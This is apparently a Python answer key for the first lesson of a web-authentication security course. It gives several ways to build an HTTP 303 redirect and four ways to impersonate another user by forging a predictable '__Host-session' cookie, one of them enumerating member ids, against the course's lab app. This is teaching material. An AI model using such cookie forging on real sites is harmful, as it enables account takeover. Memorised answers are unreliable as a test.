"""Answers to lesson 0, in several styles."""

from http import HTTPStatus

from werkzeug.utils import redirect
from werkzeug.wrappers import Response

from authlab.course.bank import alternative
from authlab.lab.browser import Browser

SEE_OTHER = "authlab.responses:see_other"
SOMEBODY_ELSE = "authlab.course.kata.lesson_00_start_here:be_somebody_else"


# 0.1


@alternative(SEE_OTHER)
def see_other_by_werkzeug_redirect(location: str) -> Response:
    """Leaves it to werkzeug's redirect, which also writes a small page with a link."""
    return redirect(location, code=303)


@alternative(SEE_OTHER)
def see_other_by_headers_dict(location: str) -> Response:
    """One expression with a dict of headers and no body."""
    return Response(status=303, headers={"Location": location})


@alternative(SEE_OTHER)
def see_other_by_attributes(location: str) -> Response:
    """Makes an empty response first and fills it in, line by line."""
    response = Response()
    response.status_code = 303
    response.location = location
    return response


@alternative(SEE_OTHER)
def see_other_by_http_status(location: str) -> Response:
    """Takes the number from the standard library, and a list of pairs for the headers."""
    return Response("", HTTPStatus.SEE_OTHER, [("Location", location)])


@alternative(SEE_OTHER)
def see_other_by_status_line(location: str) -> Response:
    """Writes the status as a line of text, a body to read, and the header by item assignment."""
    response = Response(f"See {location}\n", status="303 See Other", mimetype="text/plain")
    response.headers["location"] = location
    return response


# 0.2


@alternative(SOMEBODY_ELSE)
def forge_cookie_in_two_lines(browser: Browser) -> str:
    """As short as it gets."""
    browser.set_cookie("__Host-session", "3")
    return browser.get("/profile").text


@alternative(SOMEBODY_ELSE)
def forge_cookie_with_named_values(browser: Browser) -> str:
    """Gives every value a name before it is used."""
    cookie_name = "__Host-session"
    victim = 3
    browser.set_cookie(cookie_name, str(victim))
    answer = browser.get("/profile")
    html: str = answer.text
    return html


@alternative(SOMEBODY_ELSE)
def forge_cookie_after_a_look(browser: Browser) -> str:
    """Opens the page as a stranger first, and has that to return if forging does not work."""
    before = browser.get("/profile")
    browser.set_cookie("__Host-session", "3")
    after = browser.get("/profile")
    if after.status_code != 200:
        return after.text or before.text
    return after.text


@alternative(SOMEBODY_ELSE)
def forge_cookie_by_trying(browser: Browser) -> str:
    """Counts up to the member wanted, as an attacker would, and keeps the last page."""
    page = ""
    for member in range(1, 4):
        browser.set_cookie("__Host-session", f"{member}")
        page = browser.get("/profile").text
    return page
